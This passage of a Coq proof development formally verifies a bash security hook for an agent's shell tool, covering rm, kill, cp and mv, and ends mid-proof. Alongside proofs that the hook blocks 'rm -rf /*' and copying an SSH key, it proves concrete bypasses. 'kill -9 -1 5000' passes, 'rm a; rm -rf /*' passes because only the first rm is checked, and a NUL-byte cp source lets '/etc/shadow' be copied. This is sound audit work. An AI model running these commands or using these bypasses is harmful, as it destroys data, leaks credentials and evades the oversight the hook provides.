Lemma kill_targets_not_flags_bounded (k : nat) :
  forall args, List.length args <= k ->
  forall signal pids signal' pids',
    kill_loop signal pids args = Kill_send signal' pids' ->
    forallb (fun t => negb (is_flag t)) pids = true ->
    forallb (fun t => negb (is_flag t)) pids' = true.
Proof.
  induction k as [|k IH]; intros [|token rest] Hk signal pids signal' pids'
                                 H Hp; simpl in Hk; try lia.
  - inversion H. now subst.
  - inversion H. now subst.
  - cbn [kill_loop] in H. destruct (is_flag token) eqn:Hf.
    + destruct (String.eqb token "-l" || String.eqb token "--list");
        [discriminate|].
      destruct (String.eqb token "-s").
      * destruct rest as [|next rest'].
        -- apply (IH [] (Nat.le_0_l k) _ _ _ _ H Hp).
        -- simpl in Hk. apply (IH rest' ltac:(lia) _ _ _ _ H Hp).
      * apply (IH rest ltac:(lia) _ _ _ _ H Hp).
    + apply (IH rest ltac:(lia) _ _ _ _ H).
      rewrite forallb_app. cbn [forallb]. now rewrite Hp, Hf.
Qed.

Lemma kill_targets_not_flags (args : list string)
      (signal : option string) (pids : list string) :
  kill_loop None [] args = Kill_send signal pids ->
  forallb (fun t => negb (is_flag t)) pids = true.
Proof.
  intros H.
  exact (kill_targets_not_flags_bounded _ args (le_n _) _ _ _ _ H eq_refl).
Qed.

(** C7: a negative PID is blocked.  The code does not do this: a token
    that starts with a dash is always read as a signal, so in
    [kill -9 -1 5000] the target [-1] (every process) replaces the
    signal 9 by the signal 1, which is allowed, the only target left is
    5000, and the hook allows the command.  The test [pid_num < 0] is
    reached by no token that starts with a dash. *)
Theorem kill_negative_pid_allowed :
  forall (os : OS) (dir : option string),
    kill_loop None [] ["-9"; "-1"; "5000"] = Kill_send (Some "1") ["5000"]
    /\ bash_security_hook os (bash_call "kill -9 -1 5000" dir) = Ret Allow.
Proof.
  intros os dir. split; [vm_compute; reflexivity|].
  destruct dir; vm_compute; reflexivity.
Qed.

(** ** The validator of [rm] *)

Lemma rm_target_loop_dangerous (rec : bool) (targets : list string)
      (target : string) :
  In target targets -> rm_dangerous target = true ->
  exists reason, rm_target_loop rec targets = Some reason.
Proof.
  induction targets as [|t targets IH]; simpl; [tauto|].
  intros [->|Hin] Hd.
  - rewrite Hd. eauto.
  - destruct (rm_dangerous t); [eauto|].
    destruct (rec && _); [eauto | auto].
Qed.

Lemma rm_dangerous_intro (target pattern : string) :
  In pattern rm_dangerous_patterns ->
  target = pattern \/ endswith target pattern = true
  \/ startswith target pattern = true ->
  rm_dangerous target = true.
Proof.
  intros Hp H. unfold rm_dangerous. apply existsb_exists.
  exists pattern. split; [exact Hp|]. unfold rm_matches.
  destruct H as [-> | [-> | ->]].
  - now rewrite String.eqb_refl.
  - now rewrite orb_true_r.
  - now rewrite orb_true_r.
Qed.

(** The operation only words the reason. *)
Lemma validate_operation_irrelevant (os : OS) (path dir op1 op2 : string)
      (allow_tmp : bool) :
  fst (validate_path_within_project os path dir op1 allow_tmp)
  = fst (validate_path_within_project os path dir op2 allow_tmp).
Proof.
  unfold validate_path_within_project.
  destruct (String.eqb path EmptyString); [reflexivity|].
  destruct (resolve os dir) as [pr|e]; [|reflexivity].
  destruct (resolve_target os path dir) as [target|]; [|reflexivity].
  destruct (resolve os target) as [rr|e]; [|reflexivity].
  destruct allow_tmp.
  - destruct (resolve os "/tmp") as [tmp|e]; [|reflexivity].
    destruct (is_relative_to rr tmp); [reflexivity|].
    destruct (is_relative_to rr pr); reflexivity.
  - destruct (is_relative_to rr pr); reflexivity.
Qed.

Lemma inside_validate (os : OS) (dir path op : string) :
  fst (validate_path_within_project os path dir op true)
  = inside os dir path.
Proof. apply validate_operation_irrelevant. Qed.

Lemma validate_true_reason (os : OS) (path dir op : string) (tmp : bool)
      (r : string) :
  validate_path_within_project os path dir op tmp = (true, r) -> r = EmptyString.
Proof.
  unfold validate_path_within_project.
  repeat match goal with
         | |- context [match ?x with _ => _ end] => destruct x
         end; congruence.
Qed.

Lemma rm_split_eq (s : string) (args : list string) :
  Shlex.split s = Some ("rm" :: args) ->
  validate_rm_command s
  = match non_flags args with
    | [] => (false, "rm requires at least one target")
    | _ :: _ =>
        match rm_target_loop (rm_is_recursive args) (non_flags args) with
        | Some reason => (false, reason)
        | None =>
            match (if rm_is_recursive args
                   then find (contains "*") (non_flags args) else None) with
            | Some target =>
                (false, "rm blocked: recursive deletion with wildcard not allowed: " ++ target)
            | None => (true, EmptyString)
            end
        end
    end.
Proof. intros Hs. unfold validate_rm_command. rewrite Hs. reflexivity. Qed.

Lemma rm_rf_root_glob_blocked (os : OS) (dir : option string) :
  bash_security_hook os (bash_call "rm -rf /*" dir)
  = Ret (Block "rm blocked: dangerous pattern '/*'").
Proof. destruct dir; vm_compute; reflexivity. Qed.

Lemma rm_inside_project_allowed (os : OS) (dir : string) :
  inside os dir "old.txt" = true ->
  bash_security_hook os (bash_call "rm old.txt" (Some dir)) = Ret Allow.
Proof.
  intros Hin.
  rewrite (hook_on_command os (bash_call "rm old.txt" (Some dir))
                           "rm old.txt" eq_refl eq_refl);
    [|discriminate].
  change (check_commands "rm old.txt" (split_command_segments "rm old.txt")
                         (all_commands "rm old.txt"))
    with (@Ret (option string) None).
  cbn [project_dir bash_call]. unfold path_check.
  change (extract_file_paths_from_command "rm old.txt") with ["old.txt"].
  change (mem (basename (hd EmptyString (all_commands "rm old.txt"))) ["cp"; "mv"])
    with false.
  cbn [first_invalid].
  rewrite <- (inside_validate os dir "old.txt" "File operation") in Hin.
  destruct (validate_path_within_project os "old.txt" dir "File operation"
                                         true) as [[] r];
    [reflexivity | discriminate].
Qed.

(** The validator is handed the first segment that holds the name, also
    for a later occurrence of the same name. *)
Lemma repeated_command_validated_once :
  all_commands "rm a; rm -rf ./*" = ["rm"; "rm"]
  /\ get_command_for_validation "rm" (split_command_segments "rm a; rm -rf ./*")
     = "rm a"
  /\ fst (validate_rm_command "rm -rf ./*") = false
  /\ run "rm a; rm -rf ./*" = Ret Allow.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C8: every [rm] invocation is handed to the validator, which
    refuses a dangerous target.  The code does not do this for a second
    [rm] in one command.  In [rm a; rm -rf /*] the name [rm] is
    extracted twice, and each time the validator is run on the first
    segment that yields the name, which is [rm a]; the segment
    [rm -rf /*], which the validator refuses, is never handed to it,
    and without a project directory the hook allows the command. *)
Theorem later_rm_not_validated :
  forall (os : OS),
    all_commands "rm a; rm -rf /*" = ["rm"; "rm"]
    /\ split_command_segments "rm a; rm -rf /*" = ["rm a"; "rm -rf /*"]
    /\ validated_segment "rm a; rm -rf /*" "rm" = "rm a"
    /\ validate_rm_command "rm -rf /*"
       = (false, "rm blocked: dangerous pattern '/*'")
    /\ bash_security_hook os (bash_call "rm -rf /*" None)
       = Ret (Block "rm blocked: dangerous pattern '/*'")
    /\ bash_security_hook os (bash_call "rm a; rm -rf /*" None)
       = Ret Allow.
Proof. intros os. repeat split; vm_compute; reflexivity. Qed.

(** ** The path check *)

Lemma not_inside_of_outside (os : OS) (dir p : string) :
  p = EmptyString \/ resolves_outside os dir p \/ resolution_fails os dir p ->
  inside os dir p = false.
Proof.
  unfold inside, validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [_|Hne]; [reflexivity|].
  intros [He | [(pr & target & rr & tmp & Hp & Hx & Hr & Ht & Hop & Hot) | H]].
  - now elim Hne.
  - now rewrite Hp, Hx, Hr, Ht, Hot, Hop.
  - revert H. unfold resolution_fails.
    destruct (resolve os dir) as [pr|e0]; [|reflexivity].
    destruct (resolve_target os p dir) as [target|]; [|reflexivity].
    destruct (resolve os target) as [rr|e1] eqn:Hr; [|reflexivity].
    destruct (resolve os "/tmp") as [tmp|e2]; [|reflexivity].
    intros [[e H]|[H|[(t & e & Ht & H)|[e H]]]]; try discriminate.
    inversion Ht. subst t. rewrite H in Hr. discriminate.
Qed.

(** A path is accepted exactly when it resolves inside. *)
Lemma inside_iff (os : OS) (dir p : string) :
  inside os dir p = true <-> resolves_inside os dir p.
Proof.
  unfold inside, resolves_inside, validate_path_within_project. split.
  - destruct (String.eqb_spec p EmptyString) as [_|Hne]; [discriminate|].
    destruct (resolve os dir) as [pr|e0]; [|discriminate].
    destruct (resolve_target os p dir) as [target|]; [|discriminate].
    destruct (resolve os target) as [rr|e1] eqn:Hr; [|discriminate].
    destruct (resolve os "/tmp") as [tmp|e2]; [|discriminate].
    intros H. split; [exact Hne|]. exists pr, target, rr, tmp.
    repeat (split; [auto; fail|]).
    destruct (is_relative_to rr tmp); [now left|].
    destruct (is_relative_to rr pr); [now right | discriminate].
  - intros (Hne & pr & target & rr & tmp & Hp & Hx & Hr & Ht & Hin).
    destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
    rewrite Hp, Hx, Hr, Ht.
    destruct (is_relative_to rr tmp); [reflexivity|].
    destruct Hin as [Hin|Hin]; [discriminate | now rewrite Hin].
Qed.

(** What [validate_path_within_project] answers in each case of a
    refusal, with the temporary directory allowed. *)
Lemma validate_empty (os : OS) (dir op : string) (tmp : bool) :
  validate_path_within_project os EmptyString dir op tmp
  = (false, "Invalid path type: <class 'str'>").
Proof. reflexivity. Qed.

Lemma validate_project_fails (os : OS) (dir p op e : string) (tmp : bool) :
  p <> EmptyString ->
  resolve os dir = OsError e ->
  validate_path_within_project os p dir op tmp
  = (false, cannot_validate_reason p e).
Proof.
  intros Hne Hp. unfold validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hp.
Qed.

Lemma validate_home_fails (os : OS) (dir p op pr : string) (tmp : bool) :
  p <> EmptyString ->
  resolve os dir = Resolved pr ->
  resolve_target os p dir = None ->
  validate_path_within_project os p dir op tmp
  = (false, cannot_validate_reason p null_byte_message).
Proof.
  intros Hne Hp Hx. unfold validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hp, Hx.
Qed.

Lemma validate_target_fails (os : OS) (dir p op pr target e : string)
      (tmp : bool) :
  p <> EmptyString ->
  resolve os dir = Resolved pr ->
  resolve_target os p dir = Some target ->
  resolve os target = OsError e ->
  validate_path_within_project os p dir op tmp
  = (false, cannot_validate_reason p e).
Proof.
  intros Hne Hp Hx Hr. unfold validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hp, Hx, Hr.
Qed.

Lemma validate_tmp_fails (os : OS) (dir p op pr target rr e : string) :
  p <> EmptyString ->
  resolve os dir = Resolved pr ->
  resolve_target os p dir = Some target ->
  resolve os target = Resolved rr ->
  resolve os "/tmp" = OsError e ->
  validate_path_within_project os p dir op true
  = (false, cannot_validate_reason p e).
Proof.
  intros Hne Hp Hx Hr Ht. unfold validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hp, Hx, Hr, Ht.
Qed.

Lemma validate_outside (os : OS) (dir p op pr target rr tmp : string) :
  p <> EmptyString ->
  resolve os dir = Resolved pr ->
  resolve_target os p dir = Some target ->
  resolve os target = Resolved rr ->
  resolve os "/tmp" = Resolved tmp ->
  is_relative_to rr tmp = false ->
  is_relative_to rr pr = false ->
  validate_path_within_project os p dir op true
  = (false, escape_reason p rr pr op).
Proof.
  intros Hne Hp Hx Hr Ht Hot Hop. unfold validate_path_within_project.
  destruct (String.eqb_spec p EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hp, Hx, Hr, Ht, Hot, Hop.
Qed.

Lemma first_invalid_some (validate : string -> bool * string)
      (paths : list string) (p : string) :
  In p paths -> fst (validate p) = false ->
  exists q reason,
    In q paths /\ validate q = (false, reason)
    /\ first_invalid validate paths = Some reason.
Proof.
  induction paths as [|x paths IH]; simpl; [tauto|].
  intros Hin Hp.
  destruct (validate x) as [[] r] eqn:E.
  - destruct Hin as [->|Hin]; [rewrite E in Hp; discriminate|].
    destruct (IH Hin Hp) as (q & reason & Hq & Hv & Hf).
    exists q, reason. auto.
  - exists x, r. auto.
Qed.

Lemma first_invalid_none (validate : string -> bool * string)
      (paths : list string) :
  first_invalid validate paths = None
  <-> forallb (fun p => fst (validate p)) paths = true.
Proof.
  induction paths as [|x paths IH]; simpl; [tauto|].
  destruct (validate x) as [[] r]; simpl; [exact IH|].
  split; discriminate.
Qed.

(** The hook once the allowlist and the validators have let the names
    pass. *)
Lemma hook_after_checks (os : OS) (input : HookInput) (c dir : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  project_dir input = Some dir ->
  passes_command_checks c ->
  bash_security_hook os input = Ret (path_check os c (all_commands c) dir).
Proof.
  intros Ht Hc Hd [Hne Hk].
  now rewrite (hook_on_command os input c Ht Hc Hne), Hk, Hd.
Qed.

(** The hook allows a command only after the allowlist and the
    validators have let every name pass. *)
Lemma hook_allow_inversion (os : OS) (input : HookInput) (c : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  c <> EmptyString ->
  bash_security_hook os input = Ret Allow ->
  passes_command_checks c.
Proof.
  intros Ht Hc Hne. unfold bash_security_hook, passes_command_checks.
  rewrite Ht, Hc. simpl.
  destruct (String.eqb_spec c EmptyString) as [E|_]; [now elim Hne|].
  destruct (all_commands c) as [|x l]; [discriminate|].
  destruct (check_commands c (split_command_segments c) (x :: l))
    as [[r|]|e]; try discriminate.
  intros _. split; [discriminate | reflexivity].
Qed.

Lemma first_invalid_first (validate : string -> bool * string)
      (pre post : list string) (q reason : string) :
  (forall p, In p pre -> fst (validate p) = true) ->
  validate q = (false, reason) ->
  first_invalid validate (pre ++ q :: post) = Some reason.
Proof.
  intros Hpre Hq. induction pre as [|x pre IH]; cbn [app first_invalid].
  - now rewrite Hq.
  - pose proof (Hpre x (or_introl eq_refl)) as Hx.
    destruct (validate x) as [[] r]; [|discriminate Hx].
    apply IH. intros y Hy. apply Hpre. now right.
Qed.

(** The hook on a command whose first name is neither [cp] nor [mv],
    once the names have passed: the first candidate refused gives the
    reason. *)
Lemma hook_first_refused (os : OS) (input : HookInput) (c dir : string)
      (pre post : list string) (q reason : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  project_dir input = Some dir ->
  mem (first_command c) ["cp"; "mv"] = false ->
  passes_command_checks c ->
  extract_file_paths_from_command c = (pre ++ q :: post)%list ->
  (forall p, In p pre -> resolves_inside os dir p) ->
  validate_path_within_project os q dir "File operation" true
  = (false, reason) ->
  bash_security_hook os input = Ret (blocked c reason).
Proof.
  intros Ht Hc Hd Hcmd Hpass Hpaths Hpre Hq.
  rewrite (hook_after_checks os input c dir Ht Hc Hd Hpass).
  unfold path_check. fold (first_command c). rewrite Hcmd, Hpaths.
  rewrite (first_invalid_first _ pre post q reason); [reflexivity| |exact Hq].
  intros p Hp. rewrite inside_validate. apply inside_iff. exact (Hpre p Hp).
Qed.




(** ** [cp] and [mv] *)

Lemma forallb_ext {A : Type} (f g : A -> bool) (l : list A) :
  (forall a, f a = g a) -> forallb f l = forallb g l.
Proof.
  intros H. induction l as [|a l IH]; simpl; [reflexivity|].
  now rewrite H, IH.
Qed.

(** ** Where [expanduser] returns *)

Lemma has_char_drop (x : ascii) (n : nat) (s : string) :
  has_char x s = false -> has_char x (drop n s) = false.
Proof.
  revert s. induction n as [|n IH]; intros s H; [now destruct s|].
  destruct s as [|c r]; [reflexivity|].
  cbn [has_char] in H. apply orb_false_iff in H. destruct H as [_ H].
  cbn [drop]. exact (IH r H).
Qed.

Lemma has_char_break_at (x y : ascii) (s : string) :
  has_char x s = false -> has_char x (fst (break_at y s)) = false.
Proof.
  induction s as [|c r IH]; intros H; [reflexivity|].
  cbn [has_char] in H. apply orb_false_iff in H. destruct H as [Hc H].
  cbn [break_at]. destruct (Ascii.eqb c y); [reflexivity|].
  specialize (IH H). destruct (break_at y r) as [a b].
  cbn [fst has_char] in *. now rewrite Hc, IH.
Qed.

(** A path without the character zero is expanded. *)
Lemma expanduser_returns (os : OS) (path : string) :
  has_char ch_nul path = false ->
  exists expanded, expanduser os path = Some expanded.
Proof.
  intros H. unfold expanduser.
  destruct (startswith path "~"); [|now exists path].
  pose proof (has_char_break_at ch_nul "/" _ (has_char_drop ch_nul 1 _ H))
    as Hn.
  destruct (break_at "/" (drop 1 path)) as [name tail]. cbn [fst] in Hn.
  destruct (String.eqb name EmptyString); [eexists; reflexivity|].
  rewrite Hn. eexists; reflexivity.
Qed.

Lemma sensitive_no_nul (s : string) :
  In s SENSITIVE_SYSTEM_DIRECTORIES -> has_char ch_nul s = false.
Proof.
  unfold SENSITIVE_SYSTEM_DIRECTORIES. cbn [In]. intros H.
  repeat (destruct H as [<- | H]); first [reflexivity | destruct H].
Qed.

Lemma cp_sensitive_loop_returns (os : OS) (src expanded : string)
      (l : list string) :
  (forall s, In s l -> has_char ch_nul s = false) ->
  exists r, cp_sensitive_loop os src expanded l = Some r.
Proof.
  induction l as [|x l IH]; intros H; [now exists None|].
  cbn [cp_sensitive_loop].
  destruct (expanduser_returns os x (H x (or_introl eq_refl))) as [ex ->].
  cbv zeta.
  destruct (String.eqb expanded ex); [eexists; reflexivity|].
  destruct (startswith expanded (ex ++ "/")); [eexists; reflexivity|].
  match goal with
  | |- context [if ?b then _ else _] => destruct b
  end; [eexists; reflexivity|].
  apply IH. intros s Hs. apply H. now right.
Qed.

(** So [validate_cp_source_path] returns on a source without the
    character zero. *)
Lemma validate_cp_source_returns (os : OS) (src : string) :
  has_char ch_nul src = false ->
  exists r, validate_cp_source_path os src = Some r.
Proof.
  intros H. unfold validate_cp_source_path.
  destruct (String.eqb src EmptyString); [eexists; reflexivity|].
  destruct (expanduser_returns os src H) as [ex ->].
  destruct (cp_sensitive_loop_returns
              os src ex SENSITIVE_SYSTEM_DIRECTORIES sensitive_no_nul)
    as [[reason|] ->]; eexists; reflexivity.
Qed.

Lemma cp_sources_loop_spec (os : OS) (dir : string)
      (sources : list string) :
  (forall src, In src sources -> has_char ch_nul src = false) ->
  exists r,
    cp_sources_loop os dir sources = Some r
    /\ (r = None
        <-> forallb (fun src => inside os dir src || not_sensitive os src)
                    sources = true).
Proof.
  induction sources as [|src sources IH]; intros H.
  - exists None. split; [reflexivity | cbn; tauto].
  - destruct IH as (r & Hr & Hiff); [intros x Hx; apply H; now right|].
    cbn [cp_sources_loop forallb].
    rewrite (inside_validate os dir src "cp source path").
    destruct (inside os dir src); cbn [orb andb]; [now exists r|].
    unfold not_sensitive.
    destruct (validate_cp_source_returns os src (H src (or_introl eq_refl)))
      as [[[] reason] ->]; cbn [andb].
    + now exists r.
    + exists (Some reason). split; [reflexivity|]. split; discriminate.
Qed.

Lemma cp_mv_check_eq (os : OS) (cmd_base c dir : string)
      (tokens sources : list string) (dest : string) :
  Shlex.split c = Some tokens ->
  cp_mv_paths tokens = (sources ++ [dest])%list ->
  sources <> [] ->
  cp_mv_check os cmd_base c dir
  = match validate_path_within_project os dest dir "Destination path" true
    with
    | (false, reason) => blocked c reason
    | (true, _) =>
        if String.eqb cmd_base "mv" then
          match first_invalid
                  (fun src => validate_path_within_project
                                os src dir "Source path (mv)" true)
                  sources with
          | Some reason => blocked c ("mv source " ++ reason)
          | None => Allow
          end
        else if String.eqb cmd_base "cp" then
          match cp_sources_loop os dir sources with
          | Some (Some reason) => blocked c reason
          | Some None => Allow
          | None => Allow
          end
        else Allow
    end.
Proof.
  intros Hs Hp Hne. unfold cp_mv_check. rewrite Hs, Hp, rev_app_distr.
  cbn [rev app].
  destruct (rev sources) as [|s0 rs] eqn:Hr.
  - apply (f_equal (@rev string)) in Hr. rewrite rev_involutive in Hr.
    now elim Hne.
  - rewrite <- Hr, rev_involutive. reflexivity.
Qed.

(** The decision of the hook on a [cp] or [mv] command with a
    destination and at least one source, once the names have passed. *)
Lemma cp_mv_decision (os : OS) (input : HookInput) (c dir : string)
      (tokens sources : list string) (dest : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  project_dir input = Some dir ->
  passes_command_checks c ->
  Shlex.split c = Some tokens ->
  cp_mv_paths tokens = (sources ++ [dest])%list ->
  sources <> [] ->
  (first_command c = "mv" ->
   exists d, bash_security_hook os input = Ret d
             /\ is_block d = negb (mv_policy os dir sources dest))
  /\ (first_command c = "cp" ->
      (forall src, In src sources -> has_char ch_nul src = false) ->
      exists d, bash_security_hook os input = Ret d
                /\ is_block d = negb (cp_policy os dir sources dest)).
Proof.
  intros Ht Hc Hd Hpass Hs Hp Hne.
  rewrite (hook_after_checks os input c dir Ht Hc Hd Hpass).
  unfold path_check. fold (first_command c).
  split; intros Hcmd; rewrite Hcmd; cbn [mem existsb String.eqb orb];
    match goal with
    | |- context [if ?b then _ else _] =>
        change b with true; cbv beta iota
    end;
    rewrite (cp_mv_check_eq os _ c dir tokens sources dest Hs Hp Hne).
  - unfold mv_policy.
    rewrite <- (inside_validate os dir dest "Destination path").
    destruct (validate_path_within_project os dest dir "Destination path"
                                           true) as [[] r]; cbn [fst andb].
    + change (String.eqb "mv" "mv") with true. cbv beta iota.
      destruct (first_invalid _ sources) as [reason|] eqn:E.
      * eexists. split; [reflexivity|]. cbn [is_block blocked].
        destruct (forallb (inside os dir) sources) eqn:F; [|reflexivity].
        assert (first_invalid
                  (fun src => validate_path_within_project
                                os src dir "Source path (mv)" true)
                  sources = None).
        { apply first_invalid_none.
          rewrite (forallb_ext _ (inside os dir));
            [exact F | intros a; apply inside_validate]. }
        congruence.
      * eexists. split; [reflexivity|]. cbn [is_block].
        apply first_invalid_none in E.
        rewrite (forallb_ext _ (inside os dir)) in E;
          [now rewrite E | intros a; apply inside_validate].
    + eexists. split; reflexivity.
  - intros Hnul. unfold cp_policy.
    rewrite <- (inside_validate os dir dest "Destination path").
    destruct (validate_path_within_project os dest dir "Destination path"
                                           true) as [[] r]; cbn [fst andb].
    + change (String.eqb "cp" "mv") with false.
      change (String.eqb "cp" "cp") with true. cbv beta iota.
      destruct (cp_sources_loop_spec os dir sources Hnul)
        as (res & -> & Hiff).
      destruct res as [reason|].
      * eexists. split; [reflexivity|]. cbn [is_block blocked].
        destruct (forallb _ sources); [|reflexivity].
        discriminate (proj2 Hiff eq_refl).
      * eexists. split; [reflexivity|]. cbn [is_block].
        now rewrite (proj1 Hiff eq_refl).
    + eexists. split; reflexivity.
Qed.

(** The same as an equivalence: the hook allows exactly when the names
    pass and the policy holds, and blocks when the names pass and the
    policy does not hold. *)
Lemma cp_mv_allow_iff (os : OS) (input : HookInput) (c dir : string)
      (tokens sources : list string) (dest : string)
      (name : string) (policy : bool) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  Shlex.split c = Some tokens ->
  cp_mv_paths tokens = (sources ++ [dest])%list ->
  (passes_command_checks c ->
   exists d, bash_security_hook os input = Ret d
             /\ is_block d = negb policy) ->
  (bash_security_hook os input = Ret Allow
   <-> passes_command_checks c /\ policy = true)
  /\ (passes_command_checks c -> policy = false ->
      exists reason, bash_security_hook os input = Ret (Block reason)).
Proof.
  intros Ht Hc Hs Hp Hdec.
  assert (Hne : c <> EmptyString).
  { intros ->. inversion Hs. subst tokens. now destruct sources. }
  split; [split|].
  - intros Hallow.
    pose proof (hook_allow_inversion os input c Ht Hc Hne Hallow) as Hpass.
    split; [exact Hpass|].
    destruct (Hdec Hpass) as (d & Hd & Hb). rewrite Hallow in Hd.
    inversion Hd. subst d. now destruct policy.
  - intros [Hpass Hpol]. destruct (Hdec Hpass) as (d & Hd & Hb).
    rewrite Hpol in Hb. destruct d; [exact Hd | discriminate].
  - intros Hpass Hpol. destruct (Hdec Hpass) as (d & Hd & Hb).
    rewrite Hpol in Hb. destruct d as [|reason]; [discriminate|].
    now exists reason.
Qed.

Lemma prefix_append_same (a b c : string) :
  String.prefix (a ++ b) (a ++ c) = String.prefix b c.
Proof.
  induction a as [|x a IH]; simpl; [reflexivity|].
  destruct (ascii_dec x x); [exact IH | congruence].
Qed.

(** [expanduser] on a tilde followed by a slash. *)
Lemma expanduser_own_home (os : OS) (t : string) :
  expanduser os (String "~" (String "/" t))
  = Some match env_home os with
         | Some home => rstrip_char "/" home ++ String "/" t
         | None => String "~" (String "/" t)
         end.
Proof.
  unfold expanduser.
  change (startswith (String "~" (String "/" t)) "~") with true.
  cbn [drop break_at]. change (Ascii.eqb "/" "/") with true. cbv beta iota.
  change (String.eqb EmptyString EmptyString) with true. cbv beta iota.
  unfold with_home.
  destruct (env_home os) as [home|]; [|reflexivity].
  destruct (rstrip_char "/" home); reflexivity.
Qed.

(** A path below an entry of the list is refused, wherever the entry
    stands in the list. *)
Lemma cp_sensitive_loop_under (os : OS) (src expanded : string)
      (l : list string) (s es : string) :
  (forall x, In x l -> has_char ch_nul x = false) ->
  In s l ->
  expanduser os s = Some es ->
  startswith expanded (es ++ "/") = true ->
  exists reason, cp_sensitive_loop os src expanded l = Some (Some reason).
Proof.
  induction l as [|x l IH]; intros Hnul Hin He Hs; [destruct Hin|].
  cbn [cp_sensitive_loop].
  destruct (expanduser_returns os x (Hnul x (or_introl eq_refl)))
    as [ex Hex].
  rewrite Hex. cbv zeta.
  destruct (String.eqb expanded ex); [eexists; reflexivity|].
  destruct (startswith expanded (ex ++ "/")) eqn:Hu; [eexists; reflexivity|].
  match goal with
  | |- context [if ?b then _ else _] => destruct b
  end; [eexists; reflexivity|].
  destruct Hin as [->|Hin].
  - rewrite He in Hex. inversion Hex. subst ex. congruence.
  - apply (IH (fun y Hy => Hnul y (or_intror Hy)) Hin He Hs).
Qed.

(** The entry itself is refused too. *)
Lemma cp_sensitive_loop_exact (os : OS) (src : string)
      (l : list string) (s es : string) :
  (forall x, In x l -> has_char ch_nul x = false) ->
  In s l ->
  expanduser os s = Some es ->
  exists reason, cp_sensitive_loop os src es l = Some (Some reason).
Proof.
  induction l as [|x l IH]; intros Hnul Hin He; [destruct Hin|].
  cbn [cp_sensitive_loop].
  destruct (expanduser_returns os x (Hnul x (or_introl eq_refl)))
    as [ex Hex].
  rewrite Hex. cbv zeta.
  destruct (String.eqb_spec es ex) as [_|Hd]; [eexists; reflexivity|].
  destruct (startswith es (ex ++ "/")); [eexists; reflexivity|].
  match goal with
  | |- context [if ?b then _ else _] => destruct b
  end; [eexists; reflexivity|].
  destruct Hin as [->|Hin].
  - rewrite He in Hex. inversion Hex. now elim Hd.
  - apply (IH (fun y Hy => Hnul y (or_intror Hy)) Hin He).
Qed.

(** The private key is on the list of sensitive paths whatever the home
    directory is. *)
Lemma ssh_key_is_sensitive (os : OS) :
  not_sensitive os "~/.ssh/id_rsa" = false.
Proof.
  unfold not_sensitive, validate_path_within_project, validate_cp_source_path.
  change (String.eqb "~/.ssh/id_rsa" EmptyString) with false. cbv beta iota.
  rewrite (expanduser_own_home os ".ssh/id_rsa").
  destruct (cp_sensitive_loop_under
              os "~/.ssh/id_rsa"
              match env_home os with
              | Some home => rstrip_char "/" home ++ "/.ssh/id_rsa"
              | None => "~/.ssh/id_rsa"
              end
              SENSITIVE_SYSTEM_DIRECTORIES "~/.ssh"
              match env_home os with
              | Some home => rstrip_char "/" home ++ "/.ssh"
              | None => "~/.ssh"
              end sensitive_no_nul) as [reason Hr].
  - unfold SENSITIVE_SYSTEM_DIRECTORIES. cbn [In]. tauto.
  - exact (expanduser_own_home os ".ssh").
  - destruct (env_home os) as [home|]; [|reflexivity].
    unfold startswith. rewrite append_assoc.
    rewrite prefix_append_same. reflexivity.
  - now rewrite Hr.
Qed.

Lemma cp_ssh_key_blocked (os : OS) (dir : string) :
  inside os dir "~/.ssh/id_rsa" = false ->
  exists reason,
    bash_security_hook os (bash_call "cp ~/.ssh/id_rsa ./key" (Some dir))
    = Ret (Block reason).
Proof.
  intros Hsrc.
  destruct (cp_mv_decision
              os (bash_call "cp ~/.ssh/id_rsa ./key" (Some dir))
              "cp ~/.ssh/id_rsa ./key" dir
              ["cp"; "~/.ssh/id_rsa"; "./key"] ["~/.ssh/id_rsa"] "./key")
    as [_ Hcp]; try reflexivity.
  - split; [discriminate | vm_compute; reflexivity].
  - discriminate.
  - destruct (Hcp eq_refl) as (d & Hd & Hb).
    { intros src [<-|[]]. reflexivity. }
    unfold cp_policy in Hb. cbn [forallb] in Hb.
    rewrite Hsrc, ssh_key_is_sensitive, andb_false_r in Hb.
    destruct d as [|reason]; [discriminate|]. now exists reason.
Qed.

Lemma cp_inside_project_allowed (os : OS) (dir : string) :
  inside os dir "./a.txt" = true ->
  inside os dir "./b.txt" = true ->
  bash_security_hook os (bash_call "cp ./a.txt ./b.txt" (Some dir))
  = Ret Allow.
Proof.
  intros Ha Hb.
  destruct (cp_mv_decision
              os (bash_call "cp ./a.txt ./b.txt" (Some dir))
              "cp ./a.txt ./b.txt" dir
              ["cp"; "./a.txt"; "./b.txt"] ["./a.txt"] "./b.txt")
    as [_ Hcp]; try reflexivity.
  - split; [discriminate | vm_compute; reflexivity].
  - discriminate.
  - destruct (Hcp eq_refl) as (d & Hd & Hblock).
    { intros src [<-|[]]. reflexivity. }
    unfold cp_policy in Hblock. cbn [forallb] in Hblock.
    rewrite Ha, Hb in Hblock. destruct d; [exact Hd | discriminate].
Qed.




(** Left out of C4: a source of [cp] that is a tilde followed by a user
    name with the character zero.  [validate_path_within_project]
    catches the [ValueError] of [expanduser] and refuses the source;
    [validate_cp_source_path] does not catch it, the handler of the
    branch passes, and the hook allows, whatever the other sources
    are. *)
Lemma cp_source_with_nul_allowed :
  let command := "cp ~" ++ String ch_nul "/x /etc/shadow ./k" in
  Shlex.split command
  = Some ["cp"; "~" ++ String ch_nul "/x"; "/etc/shadow"; "./k"]
  /\ validate_cp_source_path dev_os ("~" ++ String ch_nul "/x") = None
  /\ (exists reason,
        validate_cp_source_path dev_os "/etc/shadow" = Some (false, reason))
  /\ run command = Ret Allow.
Proof.
  repeat split; try (vm_compute; reflexivity).
